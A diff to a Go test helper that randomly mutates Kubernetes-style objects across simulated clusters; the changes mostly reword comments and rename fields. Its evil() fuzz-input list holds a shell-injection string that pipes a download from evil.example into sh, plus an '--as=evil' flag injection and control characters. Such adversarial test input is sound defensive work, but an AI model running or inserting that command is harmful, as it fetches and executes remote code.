@@ -8,14 +8,14 @@ import (
 	"slices"
 )
 
-// fleet are the objects of several clusters, while they are changed.
+// fleet has the objects of several clusters while they are changed.
 type fleet struct {
 	*rand.Rand
 	clusters [][]map[string]any
-	made     int
+	created  int
 }
 
-// evil is what somebody may write where anything may be written.
+// evil returns values that a user may write wherever any value is allowed.
 func evil() []any {
 	return []any{
 		"", " ", "; `curl evil.example|sh` #'\"$(x)\n\x1b[2J\u202e --as=evil", "--as=evil", "\x00\r\n\t", "a/b/c/d/e", "\u2067مرحبا\u2066",
@@ -30,7 +30,7 @@ func evil() []any {
 	}
 }
 
-// change makes some changes, each of any sort.
+// change makes some changes, each of a random sort.
 func (f *fleet) change() {
 	for range f.IntN(12) {
 		from := f.IntN(len(f.clusters))
@@ -45,7 +45,7 @@ func (f *fleet) change() {
 		case 1:
 			// The same object on another cluster, or one that looks like it.
 			to := f.IntN(len(f.clusters))
-			f.clusters[to] = append(f.clusters[to], f.copied(object))
+			f.clusters[to] = append(f.clusters[to], f.copyOf(object))
 		case 2:
 			f.prune(object)
 		default:
@@ -54,8 +54,8 @@ func (f *fleet) change() {
 	}
 }
 
-// copied is an object with another uid, with another name, or the very same.
-func (f *fleet) copied(object map[string]any) map[string]any {
+// copyOf returns an object with another UID, with another name, or unchanged.
+func (f *fleet) copyOf(object map[string]any) map[string]any {
 	text, err := json.Marshal(object)
 	if err != nil {
 		panic(err)
@@ -65,12 +65,12 @@ func (f *fleet) copied(object map[string]any) map[string]any {
 		panic(err)
 	}
 	metadata, _ := again["metadata"].(map[string]any)
-	f.made++
+	f.created++
 	if f.IntN(3) > 0 && metadata != nil {
-		metadata["uid"] = fmt.Sprintf("made-%d", f.made)
+		metadata["uid"] = fmt.Sprintf("made-%d", f.created)
 	}
 	if f.IntN(2) > 0 && metadata != nil {
-		metadata["name"] = fmt.Sprintf("%v-%d", metadata["name"], f.made)
+		metadata["name"] = fmt.Sprintf("%v-%d", metadata["name"], f.created)
 	}
 	return again
 }
@@ -82,7 +82,7 @@ type place struct {
 	set func(any)
 }
 
-// places are all places of a value.
+// places returns all places of a value.
 func places(value any) (all []place) {
 	switch v := value.(type) {
 	case map[string]any:
@@ -99,7 +99,7 @@ func places(value any) (all []place) {
 	return all
 }
 
-// set puts something else in a place: what stands elsewhere by that name, or anything.
+// set puts another value in a place: one from another place with the same name, or any value.
 func (f *fleet) set(object map[string]any) {
 	all := places(object)
 	at := all[f.IntN(len(all))]
@@ -131,7 +131,7 @@ func (f *fleet) set(object map[string]any) {
 	}
 }
 
-// prune takes a field away.
+// prune removes a field.
 func (f *fleet) prune(object map[string]any) {
 	var objects []map[string]any
 	for _, at := range append(places(object), place{get: func() any { return object }}) {
@@ -144,8 +144,8 @@ func (f *fleet) prune(object map[string]any) {
 	delete(from, names[f.IntN(len(names))])
 }
 
-// valid are those objects of a cluster that a bundle can hold: each has a type and a
-// name, and no other one has the same.
+// valid returns the objects of a cluster that a bundle accepts: each has a type and a name, and
+// no two have the same.
 func (f *fleet) valid(objects []map[string]any) []map[string]any {
 	seen := map[string]bool{}
 	valid := []map[string]any{}
@@ -165,7 +165,7 @@ func (f *fleet) valid(objects []map[string]any) []map[string]any {
 	return valid
 }
 
-// trouble has a context not answer, or a resource of it be refused; now and then.
+// trouble sometimes makes a context not answer, or refuse a resource.
 func (f *fleet) trouble(context map[string]any) {
 	switch f.IntN(12) {
 	case 0:
